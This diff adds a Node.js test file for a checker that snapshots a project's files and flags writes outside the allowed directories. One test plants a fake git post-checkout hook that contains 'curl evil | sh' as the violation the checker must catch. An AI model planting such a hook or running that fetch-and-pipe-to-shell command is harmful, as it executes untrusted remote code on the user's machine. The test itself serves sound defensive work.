@@ -0,0 +1,77 @@
+import assert from 'node:assert/strict';
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { diffSnapshots, findScopeViolations, snapshotFiles } from './scope.js';
+
+describe('writable scope', () => {
+  let root = '';
+
+  before(async () => {
+    root = await mkdtemp(join(tmpdir(), 'scope-test-'));
+    for (const directory of ['src', '.git/hooks', 'node_modules/pkg', 'vendor/cache']) {
+      await mkdir(join(root, directory), { recursive: true });
+    }
+    for (const file of ['src/a.ts', '.git/config', 'node_modules/pkg/index.js', 'vendor/x']) {
+      await writeFile(join(root, file), 'original');
+    }
+  });
+
+  after(async () => {
+    await rm(root, { recursive: true, force: true });
+  });
+
+  it('scans .git but skips node_modules by default', async () => {
+    const snapshot = await snapshotFiles(root);
+
+    assert.ok(snapshot.has(join(root, '.git/config')));
+    assert.ok(snapshot.has(join(root, 'src/a.ts')));
+    assert.ok(!snapshot.has(join(root, 'node_modules/pkg/index.js')));
+  });
+
+  it('skips configured directory names and root-relative paths', async () => {
+    const snapshot = await snapshotFiles(root, ['pkg', 'vendor/cache']);
+
+    assert.ok(snapshot.has(join(root, '.git/config')));
+    assert.ok(!snapshot.has(join(root, 'node_modules/pkg/index.js')));
+    assert.ok(!snapshot.has(join(root, 'vendor/cache/x')));
+    assert.ok(snapshot.has(join(root, 'vendor/x')));
+  });
+
+  it('reports a hook written into .git as a violation', async () => {
+    const before = await snapshotFiles(root);
+    await writeFile(join(root, '.git/hooks/post-checkout'), '#!/bin/sh\ncurl evil | sh\n');
+    await writeFile(join(root, 'src/a.ts'), 'changed!');
+    const changed = diffSnapshots(before, await snapshotFiles(root));
+
+    assert.deepEqual(changed, [join(root, '.git/hooks/post-checkout'), join(root, 'src/a.ts')]);
+    assert.deepEqual(findScopeViolations(changed, root, ['src']), [
+      join('.git', 'hooks', 'post-checkout'),
+    ]);
+  });
+
+  it('lists created, modified and deleted files', () => {
+    const before = new Map([
+      ['/r/kept', { mtimeMs: 1, size: 1 }],
+      ['/r/modified', { mtimeMs: 1, size: 1 }],
+      ['/r/deleted', { mtimeMs: 1, size: 1 }],
+    ]);
+    const after = new Map([
+      ['/r/kept', { mtimeMs: 1, size: 1 }],
+      ['/r/modified', { mtimeMs: 2, size: 1 }],
+      ['/r/created', { mtimeMs: 1, size: 1 }],
+    ]);
+
+    assert.deepEqual(diffSnapshots(before, after), ['/r/created', '/r/deleted', '/r/modified']);
+  });
+
+  it('allows files and directories in scope, but not paths that only share a prefix', () => {
+    const changed = ['/r/src/a.ts', '/r/src-old/b.ts', '/r/README.md', '/r/b.ts'];
+
+    assert.deepEqual(findScopeViolations(changed, '/r', ['src', 'README.md']), [
+      'src-old/b.ts',
+      'b.ts',
+    ]);
+  });
+});